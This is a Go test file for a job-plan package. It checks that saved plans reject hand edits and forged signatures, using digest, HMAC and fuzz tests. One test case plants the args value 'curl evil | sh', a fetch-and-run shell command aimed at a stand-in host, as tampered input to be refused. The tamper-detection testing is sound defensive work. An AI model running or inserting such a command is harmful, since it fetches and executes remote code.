package plan

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

// savedPlan is a plan of three runs with typed job config (an integer
// shm_size, a list of args), written with key.
func savedPlan(t *testing.T, key []byte) []byte {
	t.Helper()
	d := desired("a", 3)
	for _, r := range d {
		r.Job.TaskGroups[0].Tasks[0].Config["shm_size"] = int64(1 << 30)
		r.Job.TaskGroups[0].Tasks[0].Config["args"] = []string{"train.py", "--lr", "0.1"}
	}
	p := Plan(d, []ActualRun{{ID: "a-77777777", Experiment: "a", Status: "running", HasJob: true, HasRecord: true}}, Options{})
	var buf bytes.Buffer
	if err := WritePlan(&buf, p, key); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// editPlan decodes a saved plan as generic JSON, lets edit change it, and
// encodes it again: what a person with an editor (or jq) does.
func editPlan(t *testing.T, saved []byte, edit func(doc map[string]any)) []byte {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal(saved, &doc); err != nil {
		t.Fatal(err)
	}
	edit(doc)
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func firstCreate(doc map[string]any) map[string]any {
	exps := doc["experiments"].([]any)
	return exps[0].(map[string]any)["create"].([]any)[0].(map[string]any)
}

func firstTask(doc map[string]any) map[string]any {
	job := firstCreate(doc)["job"].(map[string]any)
	return job["TaskGroups"].([]any)[0].(map[string]any)["Tasks"].([]any)[0].(map[string]any)
}

// TestSavedPlanRefusesEdits: apply -plan applies a plan exactly as plan
// wrote it. A job edited by hand (driver, args, a run dropped, the basis
// moved) is refused with ErrTampered naming the run and the fix; an
// untouched plan, re-encoded by a JSON tool, still reads.
func TestSavedPlanRefusesEdits(t *testing.T) {
	saved := savedPlan(t, nil)
	if _, err := ReadPlan(bytes.NewReader(saved), nil); err != nil {
		t.Fatalf("untouched plan refused: %v", err)
	}
	if _, err := ReadPlan(bytes.NewReader(editPlan(t, saved, func(map[string]any) {})), nil); err != nil {
		t.Fatalf("plan re-encoded without changes refused: %v", err)
	}
	tests := []struct {
		name string
		edit func(doc map[string]any)
		want string
	}{
		{"driver", func(doc map[string]any) { firstTask(doc)["Driver"] = "raw_exec" }, "run a-00000000"},
		{"args", func(doc map[string]any) {
			firstTask(doc)["Config"].(map[string]any)["args"] = []any{"-c", "curl evil | sh"}
		}, "run a-00000000"},
		{"meta", func(doc map[string]any) {
			firstCreate(doc)["job"].(map[string]any)["Meta"].(map[string]any)["caravan_pool"] = "other"
		}, "run a-00000000"},
		{"digest recomputed by hand", func(doc map[string]any) {
			c := firstCreate(doc)
			c["job"].(map[string]any)["NodePool"] = "default"
			var ch Change
			b, _ := json.Marshal(c)
			_ = json.Unmarshal(b, &ch)
			c["digest"], _ = changeDigest(ch)
		}, "lists or basis"},
		{"run dropped", func(doc map[string]any) {
			e := doc["experiments"].([]any)[0].(map[string]any)
			e["create"] = e["create"].([]any)[1:]
		}, "lists or basis"},
		{"basis", func(doc map[string]any) { doc["basis"].(map[string]any)["actual_hash"] = "00" }, "lists or basis"},
		{"no digest", func(doc map[string]any) { delete(doc, "digest") }, "no digest"},
		{"removed run added", func(doc map[string]any) {
			e := doc["experiments"].([]any)[0].(map[string]any)
			e["removed"] = append(e["removed"].([]any), map[string]any{"id": "b-00000000", "active": true})
		}, "lists or basis"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadPlan(bytes.NewReader(editPlan(t, saved, tt.edit)), nil)
			if !errors.Is(err, ErrTampered) || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "caravan plan -out FILE") {
				t.Fatalf("ReadPlan of an edited plan = %v; want ErrTampered mentioning %q and the fix", err, tt.want)
			}
		})
	}
}

// TestSavedPlanInconsistent: a change whose job and ID disagree is refused
// even when its digests were recomputed (an edit by someone who knows the
// format).
func TestSavedPlanInconsistent(t *testing.T) {
	d := desired("a", 1)
	d[0].Job.ID = new("a-ffffffff")
	p := Plan(d, nil, Options{})
	var buf bytes.Buffer
	if err := WritePlan(&buf, p, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadPlan(&buf, nil); !errors.Is(err, ErrTampered) || !strings.Contains(err.Error(), "a-ffffffff") {
		t.Fatalf("ReadPlan = %v; want ErrTampered naming the job ID", err)
	}
}

// TestSignedPlan: with CARAVAN_PLAN_KEY the digest is an HMAC. The right
// key reads it; a wrong key, no key, or an unsigned plan under a key are
// refused, and an edit whose SHA-256 digests were all recomputed still
// fails, since only the key makes the HMAC.
func TestSignedPlan(t *testing.T) {
	key := []byte("s3cret")
	saved := savedPlan(t, key)
	if _, err := ReadPlan(bytes.NewReader(saved), key); err != nil {
		t.Fatalf("signed plan refused with its key: %v", err)
	}
	if _, err := ReadPlan(bytes.NewReader(saved), []byte("other")); !errors.Is(err, ErrTampered) || !strings.Contains(err.Error(), "another CARAVAN_PLAN_KEY") {
		t.Errorf("wrong key: %v", err)
	}
	if _, err := ReadPlan(bytes.NewReader(saved), nil); err == nil || !strings.Contains(err.Error(), "CARAVAN_PLAN_KEY is not set") {
		t.Errorf("no key: %v", err)
	}
	if _, err := ReadPlan(bytes.NewReader(savedPlan(t, nil)), key); !errors.Is(err, ErrTampered) || !strings.Contains(err.Error(), "not signed") {
		t.Errorf("unsigned plan under a key: %v", err)
	}
	// Re-seal an edited plan the way an attacker without the key can.
	forged := editPlan(t, saved, func(doc map[string]any) { firstTask(doc)["Driver"] = "raw_exec" })
	var p RunPlan
	if err := json.Unmarshal(forged, &p); err != nil {
		t.Fatal(err)
	}
	if err := seal(&p, []byte("guess")); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(&p)
	if _, err := ReadPlan(bytes.NewReader(b), key); !errors.Is(err, ErrTampered) {
		t.Errorf("forged plan: %v", err)
	}
}

// FuzzReadPlan: a plan file is outside data (a CI artifact). Whatever the
// bytes, ReadPlan returns a plan or an error, never panics, and a plan it
// accepts applies only jobs that passed the digest and consistency checks.
func FuzzReadPlan(f *testing.F) {
	var buf bytes.Buffer
	if err := WritePlan(&buf, Plan(desired("a", 2), nil, Options{}), nil); err != nil {
		f.Fatal(err)
	}
	f.Add(buf.Bytes())
	f.Add([]byte(`{"version":2,"digest":"00","digest_alg":"sha256","experiments":[{"create":[{"id":"x"}]}]}`))
	f.Add([]byte(`{"version":2}`))
	f.Fuzz(func(t *testing.T, in []byte) {
		p, err := ReadPlan(bytes.NewReader(in), nil)
		if err != nil {
			return
		}
		for _, e := range p.Experiments {
			for _, c := range e.Create {
				if c.Job == nil || deref(c.Job.ID) != c.ID {
					t.Fatalf("accepted an inconsistent change %+v", c)
				}
			}
		}
	})
}
